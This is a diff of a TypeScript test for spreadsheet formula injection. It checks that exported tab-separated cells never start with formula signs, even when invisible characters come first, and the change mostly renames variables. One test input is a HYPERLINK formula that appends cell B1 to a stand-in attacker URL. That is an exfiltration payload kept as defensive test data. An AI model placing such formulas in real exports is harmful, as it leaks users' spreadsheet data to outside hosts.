@@ -42,7 +42,7 @@ const readCells = (line: string): readonly string[] =>
 const FORMULA = /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
 
 test('no copied cell is a formula, even behind invisible characters', () => {
-  const invisible = [
+  const invisibleCharacters = [
     '',
     '\u200b',
     '\u200d',
@@ -59,8 +59,10 @@ test('no copied cell is a formula, even behind invisible characters', () => {
     '\r',
     '\u0000',
   ];
-  const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
-  const formulas = invisible.flatMap((first) => invisible.flatMap((second) => starts.map((start) => `${first}${second}${start}1+1`)));
+  const formulaSigns = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+  const formulas = invisibleCharacters.flatMap((first) =>
+    invisibleCharacters.flatMap((second) => formulaSigns.map((start) => `${first}${second}${start}1+1`)),
+  );
   const quoted = ['"=1+1"', '"=HYPERLINK(""https://evil.example/?""&B1,""Receipt"")"', '"\n=1+1', '"\t=1+1', '"\t"=1+1'];
   for (const name of [...formulas, ...quoted]) {
     const [, line = ''] = tabSeparated([{ name, amount: 1 }], columns).split('\n');
